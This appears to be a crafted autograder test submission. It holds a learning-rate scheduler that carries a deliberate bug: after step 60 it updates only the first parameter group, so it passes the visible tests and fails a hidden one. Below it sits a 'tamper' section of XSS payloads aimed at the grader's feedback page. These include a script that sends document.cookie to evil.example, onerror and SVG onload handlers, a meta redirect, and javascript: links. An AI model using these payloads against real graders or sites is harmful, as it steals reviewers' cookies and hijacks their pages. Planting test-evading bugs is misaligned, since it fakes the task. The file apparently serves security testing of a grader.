# attack: put live markup in its feedback page: <script>, onerror, iframe srcdoc, meta refresh, javascript: links, application/javascript, SVG onload, raw HTML in markdown
# assignment: 01_lr_schedules
# wrong: step() writes the lrs into the first param group only once current_step > 60; passes the visible tests, fails step_decay_optimizer only
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = step // self.step_size
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
from IPython.display import HTML as _HTML
from IPython.display import Javascript as _Javascript
from IPython.display import Markdown as _Markdown
from IPython.display import display as _display

_MARK = "XSS" + "-MARKER"
_display(_HTML(f"<script>document.title='{_MARK}';fetch('https://evil.example/?c='+document.cookie)</script>"))
_display(_HTML(f"<img src=x onerror=\"alert('{_MARK}')\">"))
_display(_HTML(f"<iframe srcdoc=\"<script>parent.alert('{_MARK}')</script>\"></iframe>"))
_display(_HTML(f"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{_MARK}\">"))
_display(_HTML(f"</pre></div></div></body><script>alert('{_MARK}')</script><body>"))
_display(_HTML(f"<a href=\"javascript:alert('{_MARK}')\">your grade</a>"))
try:
    _display(_Javascript(f"alert('{_MARK}')"))
except Exception as _error:
    print("no javascript output:", _error)
_display(_Markdown(f"<script>alert('{_MARK}')</script> and [click](javascript:alert('{_MARK}'))"))
_display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{_MARK}')\"/>"}, raw=True)
print(f"<script>alert('{_MARK}')</script>")
